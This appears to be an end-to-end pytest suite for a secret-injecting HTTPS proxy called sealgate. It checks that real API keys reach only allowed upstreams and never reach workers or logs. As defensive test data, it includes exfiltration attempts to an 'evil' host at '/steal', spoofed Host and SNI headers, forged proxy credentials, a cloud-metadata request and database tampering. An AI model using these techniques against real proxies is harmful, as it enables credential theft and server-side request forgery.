"""The request path end to end: a real `sealgate run`, real TLS to loopback upstreams
with their own CA, real clients (curl, requests, httpx, Node's fetch). Each test checks
both sides: what the upstream received and what the worker received.
"""

from __future__ import annotations

import base64
import gzip
import json
import socket
import sqlite3
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from clients import CLIENTS, send
from conftest import curl, make_proxy
from wire import connect, one_request


def leaks(value: str, *seen: bytes) -> bool:
    v = value.encode()
    return any(v in s for s in seen)


def assert_clean(proxy, value: str, *worker_seen: bytes) -> None:
    """The value is in no response a worker got, in no file sealgate wrote, in none of its output."""
    assert not leaks(value, *worker_seen), "a worker received the secret value"
    assert not leaks(value, proxy.visible_to_operators()), "the value is in sealgate's files or output"


def assert_problem(r, status: int, code: str, *says: str) -> dict:
    assert r.status == status, r.body
    assert r.headers["content-type"] == "application/problem+json"
    assert r.headers["x-sealgate-error"] == code
    if not r.body:  # curl shows only the head of a refused CONNECT; test_connect_refusal_body reads it whole
        return {}
    problem = r.json()
    assert problem["code"] == code and problem["status"] == status
    assert {"type", "title", "detail"} <= set(problem)
    for s in says:
        assert s in problem["detail"], problem["detail"]
    return problem


@pytest.fixture(scope="module")
def api_other_port(make_upstream):
    return make_upstream("127.0.0.1")


@pytest.fixture
def keyed(proxy, api, user, value):
    """A user with API_KEY allowed only to the api upstream, and a signed-in session."""
    proxy.add_secret(user, "API_KEY", value, api.origin)
    return proxy.issue(user=user)


# --- injection ---------------------------------------------------------------------------------

@pytest.mark.parametrize("client", CLIENTS)
def test_inject_header(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "GET", api.url("/echo/header"), headers={"Authorization": f"Bearer {ph}"})
    assert r.status == 200
    assert api.received[-1].header("Authorization") == f"Bearer {value}"
    assert r.headers["x-echo-authorization"] == f"Bearer {ph}"  # the echo is scrubbed back
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", CLIENTS)
def test_inject_query(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "GET", api.url(f"/echo/q?key={ph}&page=2"))
    assert r.status == 200
    assert parse_qs(urlsplit(api.received[-1].path).query) == {"key": [value], "page": ["2"]}
    assert ph in r.json()["path"]
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", CLIENTS)
def test_inject_json_body(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "POST", api.url("/echo/json"), json_body={"api_key": ph, "n": 1})
    assert r.status == 200
    assert json.loads(api.received[-1].body) == {"api_key": value, "n": 1}
    assert int(api.received[-1].header("Content-Length")) == len(api.received[-1].body)
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", CLIENTS)
def test_inject_form_body(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "POST", api.url("/echo/form"), form={"key": ph, "q": "a b"})
    assert r.status == 200
    assert parse_qs(api.received[-1].body.decode()) == {"key": [value], "q": ["a b"]}
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", CLIENTS)
def test_inject_basic_auth(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "GET", api.url("/echo/basic"), basic=("me", ph))
    assert r.status == 200
    got = api.received[-1].header("Authorization")
    assert base64.b64decode(got.split()[1]) == f"me:{value}".encode()
    # the re-encoded header sealgate derived is scrubbed from the echo: the part of the base64 that
    # carries the value is replaced by the placeholder (whatever the user name: no form per request)
    echo = r.headers["x-echo-authorization"]
    assert ph in echo and base64.b64encode(f"me:{value}".encode()).decode() not in echo
    assert_clean(proxy, value, r.seen())
    assert got.split()[1].encode() not in r.seen()


def test_special_characters_are_escaped_per_context(proxy, api, user):
    value = 'sk-"quote"&x=1 \\ ünï'
    proxy.add_secret(user, "ODD", value, api.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["ODD"]
    send("requests", s, "POST", api.url(f"/q?k={ph}&x=2"), json_body={"k": ph}, headers={"X-Key": ph})
    got = api.received[-1]
    assert parse_qs(urlsplit(got.path).query) == {"k": [value], "x": ["2"]}
    assert json.loads(got.body) == {"k": value}
    send("requests", s, "POST", api.url("/f"), form={"k": ph, "x": "2"})
    assert parse_qs(api.received[-1].body.decode()) == {"k": [value], "x": ["2"]}


def test_compressed_request_body(proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    body = gzip.compress(json.dumps({"key": ph}).encode())
    with requests.Session() as sess:
        sess.trust_env = False
        resp = sess.post(api.url("/gz"), data=body, headers={"Content-Encoding": "gzip",
                                                               "Content-Type": "application/json"},
                         proxies={"https": keyed["proxy_url"]}, verify=keyed["ca_cert"], timeout=20)
    assert resp.status_code == 200
    # forwarded decoded: a compressed copy of the value would be one more form to keep from the worker
    assert api.received[-1].header("Content-Encoding") is None
    assert json.loads(api.received[-1].body) == {"key": value}
    assert_clean(proxy, value, resp.content, json.dumps(dict(resp.headers)).encode())


def test_globals_resolve_for_any_destination(proxy, evil, user):
    s = proxy.issue(user=user, runchat="rc-42", instance="inst-7")
    env = s["env"]
    r = curl(s, evil.url(f"/g?r={env['RUNCHAT_ID']}"), "-H", f"X-Instance: {env['INSTANCE_ID']}",
             "-H", f"X-User: {env['USER_ID']}")
    assert r.status == 200
    got = evil.received[-1]
    assert got.path == "/g?r=rc-42" and got.header("X-Instance") == "inst-7" and got.header("X-User") == user


# --- blocks --------------------------------------------------------------------------------------

def _blocked_everywhere(proxy, value, r, *upstreams):
    for up in upstreams:
        assert not leaks(value, up.seen())
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", CLIENTS)
def test_block_other_host(client, proxy, evil, keyed, value):
    before = len(evil.received)
    ph = keyed["env"]["API_KEY"]
    r = send(client, keyed, "GET", evil.url("/steal"), headers={"Authorization": f"Bearer {ph}"})
    assert_problem(r, 403, "origin_not_allowed", "API_KEY", evil.origin)
    assert len(evil.received) == before
    _blocked_everywhere(proxy, value, r, evil)


def test_block_other_port(proxy, api_other_port, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = curl(keyed, api_other_port.url("/x"), "-H", f"X-Key: {ph}")
    assert_problem(r, 403, "origin_not_allowed", api_other_port.origin)
    _blocked_everywhere(proxy, value, r, api_other_port)


@pytest.mark.parametrize("where", ["query", "json", "form", "basic"])
def test_block_placeholder_anywhere_to_other_host(where, proxy, evil, keyed, value):
    ph = keyed["env"]["API_KEY"]
    kw = {"query": dict(url=evil.url(f"/q?k={ph}")), "json": dict(json_body={"k": ph}),
          "form": dict(form={"k": ph}), "basic": dict(basic=("u", ph))}[where]
    url = kw.pop("url", evil.url("/p"))
    r = send("httpx", keyed, "POST", url, **kw)
    assert_problem(r, 403, "origin_not_allowed")
    _blocked_everywhere(proxy, value, r, evil)


def test_block_plain_http(proxy, make_upstream, user, value):
    plain = make_upstream("127.0.0.1", tls=False)
    proxy.add_secret(user, "K", value, f"https://127.0.0.1:{plain.port}")
    s = proxy.issue(user=user)
    r = curl(s, plain.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert_problem(r, 403, "insecure_upstream", "only go over https")
    assert plain.received == []
    _blocked_everywhere(proxy, value, r, plain)


def test_plain_http_with_explicit_opt_in(proxy, make_upstream, user, value):
    plain = make_upstream("127.0.0.1", tls=False)
    proxy.add_secret(user, "K", value, plain.origin, "--allow-http")
    s = proxy.issue(user=user)
    r = curl(s, plain.url("/echo"), "-H", f"X-Key: {s['env']['K']}")
    assert r.status == 200 and plain.received[-1].header("X-Key") == value
    assert_clean(proxy, value, r.seen())


def test_block_spoofed_host_header(proxy, api, evil, keyed, value):
    ph = keyed["env"]["API_KEY"]
    # the tunnel goes to evil; the Host header names the allowed api
    r = curl(keyed, evil.url("/x"), "-H", f"Host: {api.host}:{api.port}", "-H", f"X-Key: {ph}")
    assert_problem(r, 403, "host_mismatch")
    _blocked_everywhere(proxy, value, r, evil)
    # the tunnel goes to the api; the Host header names evil: blocked too
    r = curl(keyed, api.url("/x"), "-H", f"Host: {evil.host}:{evil.port}", "-H", f"X-Key: {ph}")
    assert_problem(r, 403, "host_mismatch")


def raw_tunnel(session: dict, proxy_port: int, target: str, sni: str | None, request: bytes) -> bytes:
    return one_request(session, proxy_port, target, sni, request.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1))


def test_block_spoofed_sni(proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    req = (f"GET /x HTTP/1.1\r\nHost: {api.host}:{api.port}\r\nX-Key: {ph}\r\n\r\n").encode()
    out = raw_tunnel(keyed, proxy.port, f"{api.host}:{api.port}", "localhost", req)
    assert out.startswith(b"HTTP/1.1 403") and b"host_mismatch" in out and b"TLS SNI" in out
    assert not leaks(value, out, api.seen())


def test_block_duplicate_host_headers(proxy, api, evil, keyed, value):
    ph = keyed["env"]["API_KEY"]
    req = (f"GET /x HTTP/1.1\r\nHost: {api.host}:{api.port}\r\nHost: {evil.host}:{evil.port}\r\n"
           f"X-Key: {ph}\r\n\r\n").encode()
    before = len(api.received)
    out = raw_tunnel(keyed, proxy.port, f"{api.host}:{api.port}", None, req)
    assert out.startswith(b"HTTP/1.1 403") and b"host_mismatch" in out
    assert len(api.received) == before
    assert not leaks(value, out, api.seen(), evil.seen())


def test_absolute_form_inside_tunnel_goes_to_tunnel_target(proxy, api, evil, keyed, value):
    ph = keyed["env"]["API_KEY"]
    req = (f"GET https://{api.host}:{api.port}/x HTTP/1.1\r\nHost: {api.host}:{api.port}\r\n"
           f"X-Key: {ph}\r\n\r\n").encode()
    before = len(evil.received)
    out = raw_tunnel(keyed, proxy.port, f"{evil.host}:{evil.port}", None, req)
    assert not leaks(value, out, evil.seen(), api.seen())
    assert out.startswith(b"HTTP/1.1 403") and b"host_mismatch" in out
    assert len(evil.received) == before


# --- identity ------------------------------------------------------------------------------------

@pytest.mark.parametrize("scheme", ["https", "http"])
def test_407_without_or_with_forged_credentials(scheme, proxy, make_upstream, keyed):
    up = make_upstream("127.0.0.1", tls=scheme == "https")
    sid = keyed["proxy_url"].split("//")[1].split(":")[0]
    port = proxy.port
    for proxy_url in (f"http://127.0.0.1:{port}", f"http://{sid}:forged-credential@127.0.0.1:{port}",
                      f"http://nosuchsession0000:x@127.0.0.1:{port}"):
        r = curl({**keyed, "proxy_url": proxy_url}, up.url("/x"))
        assert r.status == 407, (proxy_url, r.body)
        assert r.headers.get("proxy-authenticate", "").startswith("Basic")
        if scheme == "http":
            assert r.headers["x-sealgate-error"] == "proxy_auth_required"
    assert up.received == []


def test_session_credential_not_forwarded(proxy, make_upstream, keyed):
    plain = make_upstream("127.0.0.1", tls=False)
    cred = keyed["proxy_url"].split("@")[0].split(":")[-1]
    r = curl(keyed, plain.url("/echo"))
    assert r.status == 200
    assert plain.received[-1].header("Proxy-Authorization") is None
    assert cred.encode() not in plain.seen() and cred.encode() not in proxy.visible_to_operators()


def test_other_principals_placeholder_never_resolves(proxy, api, user, value):
    proxy.add_secret("victim-" + user, "API_KEY", value, api.origin)
    victim = proxy.issue(user="victim-" + user)
    attacker = proxy.issue(user=user)
    before = len(api.received)
    r = curl(attacker, api.url("/x"), "-H", f"X-Key: {victim['env']['API_KEY']}")
    assert_problem(r, 403, "unknown_placeholder", "does not belong to this session")
    assert len(api.received) == before
    # a placeholder minted for the attacker's own session but naming the victim's secret: no such secret
    forged = attacker["env"]["RUNCHAT_ID"].replace(".RUNCHAT_ID.", ".API_KEY.")
    r = curl(attacker, api.url("/x"), "-H", f"X-Key: {forged}")
    assert r.status == 403
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("access, with_user, expected", [
    ("signed-in", True, "user"), ("api", True, "user"), ("app-view", False, "author"), ("app-view", True, "user"),
])
def test_resolution_rules(access, with_user, expected, proxy, api, user):
    author = "author-" + user
    values = {"user": f"sk-user-{user}-value", "author": f"sk-author-{user}-value"}
    proxy.add_secret(user, "K", values["user"], api.origin)
    proxy.add_secret(author, "K", values["author"], api.origin)
    s = proxy.issue(access, user=user if with_user else None, author=author)
    r = curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert r.status == 200
    assert api.received[-1].header("X-Key") == values[expected]
    who = user if expected == "user" else author
    assert s["principal"] == who
    # the USER_ID global resolves to the principal
    curl(s, api.url("/y"), "-H", f"X-User: {s['env']['USER_ID']}")
    assert api.received[-1].header("X-User") == who


# --- egress and upstream TLS -------------------------------------------------------------------

def test_destination_blocked_private_and_own_port(proxy, make_upstream, keyed):
    other_loopback = make_upstream("127.0.0.3")  # not in SEALGATE_ALLOW_PRIVATE
    r = curl(keyed, other_loopback.url("/x"))
    assert_problem(r, 403, "destination_blocked", "127.0.0.3", "SEALGATE_ALLOW_PRIVATE")
    plain = make_upstream("127.0.0.3", tls=False)
    r = curl(keyed, plain.url("/x"))
    assert_problem(r, 403, "destination_blocked")
    r = curl(keyed, f"http://127.0.0.1:{proxy.port}/")
    assert_problem(r, 403, "destination_blocked", "own port")
    r = curl(keyed, "http://169.254.169.254/latest/meta-data/")
    assert_problem(r, 403, "destination_blocked", "link-local")
    assert other_loopback.received == [] and plain.received == []


def test_connect_refusal_body(proxy, keyed):
    sock, out = connect(keyed, proxy.port, "127.0.0.3:443")
    while not out.endswith(b"}"):
        if not (chunk := sock.recv(4096)):
            break
        out += chunk
    sock.close()
    head, _, body = out.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 403") and b"X-Sealgate-Error: destination_blocked" in head
    problem = json.loads(body)
    assert problem["code"] == "destination_blocked" and "127.0.0.3:443" in problem["detail"]


@pytest.mark.parametrize("kind", ["self_signed", "wrong_name", "expired"])
def test_no_injection_over_unverified_tls(kind, proxy, pki, make_upstream, user, value):
    cert = {
        "self_signed": lambda: pki.issue("selfsigned", ["127.0.0.1"], self_signed=True),
        "wrong_name": lambda: pki.issue("wrongname", ["other.example"]),
        "expired": lambda: pki.issue("expired", ["127.0.0.1"], expired=True),
    }[kind]()
    bad = make_upstream("127.0.0.1", cert=cert)
    proxy.add_secret(user, "K", value, bad.origin)
    s = proxy.issue(user=user)
    r = curl(s, bad.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert_problem(r, 403, "insecure_upstream", "could not be verified", "not sending K")
    assert bad.received == []
    assert_clean(proxy, value, r.seen())


# --- fail closed ---------------------------------------------------------------------------------

def test_fail_closed_on_tampered_ciphertext_wrong_key_or_broken_store(tmp_path, pki, make_upstream, user, value):
    api = make_upstream("127.0.0.1")
    p = make_proxy(tmp_path, pki)
    p.add_secret(user, "K", value, api.origin)
    p.add_secret(user, "J", value + "-j", api.origin)
    s = p.issue(user=user)
    db = p.data_dir / "sealgate.db"
    con = sqlite3.connect(db)
    con.execute("update secrets set ciphertext = zeroblob(40) where name = 'J'")
    con.commit()
    p.start()
    try:
        r = curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['J']}")
        assert_problem(r, 503, "store_unavailable", "secret J", "changed without the master key")
        # a session whose secrets cannot all be read cannot be scrubbed of them: nothing goes through
        r = curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
        assert_problem(r, 503, "store_unavailable", "secret J", "changed without the master key")
        p.cli("secret", "rm", "--user", user, "--name", "J")  # with the key (a delete without it is refused too)
        fresh = p.issue(user=user)
        r = curl(fresh, api.url("/x"), "-H", f"X-Key: {fresh['env']['K']}")
        assert r.status == 200 and api.received[-1].header("X-Key") == value  # the rest works again
        con.execute("drop table secrets")
        con.commit()
        r = curl(fresh, api.url("/x"), "-H", f"X-Key: {fresh['env']['K']}")
        assert_problem(r, 503, "store_unavailable", "cannot be read")
        assert len(api.received) == 1
    finally:
        p.stop()
        con.close()
    assert not leaks(value, p.visible_to_operators())


def test_fail_closed_under_the_wrong_master_key(tmp_path, pki, make_upstream, user, value):
    api = make_upstream("127.0.0.1")
    p = make_proxy(tmp_path, pki)
    p.add_secret(user, "K", value, api.origin)
    p.issue(user=user)
    (p.data_dir / "master.key").write_text("ab" * 32 + "\n")  # a valid key, but not the one used
    with pytest.raises(AssertionError, match="sealgate run exited"):
        p.start()  # refused before it listens: nothing can be forwarded
    p.stop()
    assert "does not open the store" in p.log.read_text()
    assert api.received == []
    r = p.cli("secret", "add", "--user", user, "--name", "L", "--origins", api.origin, input=value + "-2", check=False)
    assert r.returncode == 1 and "does not open the store" in r.stderr  # nor written under the wrong key


# --- the same addon in a stock mitmdump ------------------------------------------------------

@pytest.mark.e2e  # a stock mitmdump process
def test_stock_mitmdump_script_keeps_values_out_of_its_output(tmp_path, pki, make_upstream, user, value):
    """`mitmdump -s scripts/mitmdump_addon.py`: the value reaches the upstream and not mitmdump's output;
    flow files (-w) and flow detail above 2 are refused (they would hold WebSocket messages as sent,
    and flows in flight when mitmdump stops)."""
    import subprocess
    import time

    from conftest import ROOT, free_port

    api = make_upstream("127.0.0.1")
    p = make_proxy(tmp_path, pki)
    p.add_secret(user, "K", value, api.origin)
    s = p.issue(user=user)
    port = free_port()
    out = tmp_path / "mitmdump.out"
    base = [str(ROOT / ".venv" / "bin" / "mitmdump"), "-s", str(ROOT / "scripts" / "mitmdump_addon.py"),
            "--listen-host", "127.0.0.1", "-p", str(port),
            "--set", f"sealgate_data_dir={p.data_dir}", "--set", f"confdir={p.ca_cert.parent}",
            "--set", f"ssl_verify_upstream_trusted_ca={pki.ca_pem}",
            "--set", "sealgate_allow_private=127.0.0.1/32,127.0.0.2/32"]
    for risky, says in ((["-w", str(tmp_path / "flows.mitm")], "save_stream_file"),
                        (["--flow-detail", "3"], "flow_detail above 2")):
        r = subprocess.run(base + risky, capture_output=True, text=True, env=p.env, timeout=60)
        assert r.returncode != 0 and says in r.stdout + r.stderr
    with out.open("wb") as f:
        proc = subprocess.Popen(base + ["--flow-detail", "2"], stdout=f, stderr=subprocess.STDOUT, env=p.env)
    try:
        deadline = time.time() + 30
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
                break
            except OSError:
                assert time.time() < deadline and proc.poll() is None, out.read_text()
                time.sleep(0.1)
        session = {**s, "proxy_url": s["proxy_url"].rsplit(":", 1)[0] + f":{port}"}
        ph = s["env"]["K"]
        r = curl(session, api.url(f"/echo?k={ph}"), "-H", f"Authorization: Bearer {ph}",
                 "-H", "Content-Type: application/json", "--data-binary", json.dumps({"k": ph}))
        assert r.status == 200
        got = api.received[-1]
        assert got.header("Authorization") == f"Bearer {value}" and json.loads(got.body) == {"k": value}
        assert value in got.path
        evil = make_upstream("127.0.0.2")
        r2 = curl(session, evil.url("/x"), "-H", f"X-Key: {ph}")
        assert_problem(r2, 403, "origin_not_allowed")
    finally:
        proc.terminate()
        proc.wait(10)
    assert ph.encode() in out.read_bytes()  # the output shows the placeholder form
    assert not leaks(value, out.read_bytes(), r.seen(), r2.seen(), evil.seen())
    credential = s["proxy_url"].split("@")[0].rsplit(":", 1)[1]
    assert not leaks(credential, out.read_bytes())


def test_http2_client(proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    r = curl(keyed, api.url("/echo/h2"), "--http2", "-H", f"Authorization: Bearer {ph}")
    assert r.status == 200
    assert api.received[-1].header("Authorization") == f"Bearer {value}"
    assert_clean(proxy, value, r.seen())


@pytest.mark.parametrize("client", ["curl", "requests"])
def test_inject_multipart_body(client, proxy, api, keyed, value):
    ph = keyed["env"]["API_KEY"]
    if client == "curl":
        r = curl(keyed, api.url("/echo/multipart"), "-F", f"key={ph}", "-F", "note=hello")
    else:
        with requests.Session() as s:
            s.trust_env = False
            resp = s.post(api.url("/echo/multipart"), files={"key": (None, ph), "doc": ("a.txt", f"k={ph}\n")},
                          proxies={"https": keyed["proxy_url"]}, verify=keyed["ca_cert"], timeout=20)
        r = type("R", (), {"status": resp.status_code, "seen": lambda self: resp.content})()
    assert r.status == 200
    got = api.received[-1]
    assert got.header("Content-Type").startswith("multipart/form-data")
    assert value.encode() in got.body and ph.encode() not in got.body
    assert int(got.header("Content-Length")) == len(got.body)
    assert_clean(proxy, value, r.seen())


def test_ipv6_origin(proxy, make_upstream, user, value):
    v6 = make_upstream("::1")
    proxy.add_secret(user, "K", value, v6.origin)
    s = proxy.issue(user=user)
    r = curl(s, v6.url("/echo"), "-H", f"X-Key: {s['env']['K']}")
    assert r.status == 200 and v6.received[-1].header("X-Key") == value
    assert_clean(proxy, value, r.seen())


def test_expired_session_gets_407(proxy, api, user, value, monkeypatch):
    import time as _time

    from sealgate import sessions
    proxy.add_secret(user, "K", value, api.origin)
    s = proxy.issue(user=user, ttl="60")
    later = _time.time() + 61
    monkeypatch.setattr(sessions.time, "time", lambda: later)  # the proxy runs in this process
    r = curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert r.status == 407
    assert not any(value.encode() in x.dump() for x in api.received)


def test_a_session_whose_expiry_was_edited_without_the_key_is_refused(proxy, api, user, value):
    proxy.add_secret(user, "K", value, api.origin)
    s = proxy.issue(user=user, ttl="60")
    db = sqlite3.connect(proxy.data_dir / "sealgate.db")
    db.execute("update sessions set expires_at = expires_at + 86400 where id = ?", (s["session_id"],))
    db.commit()
    db.close()
    r = curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert r.status == 503 and r.headers["x-sealgate-error"] == "store_unavailable"
    assert not any(value.encode() in x.dump() for x in api.received)
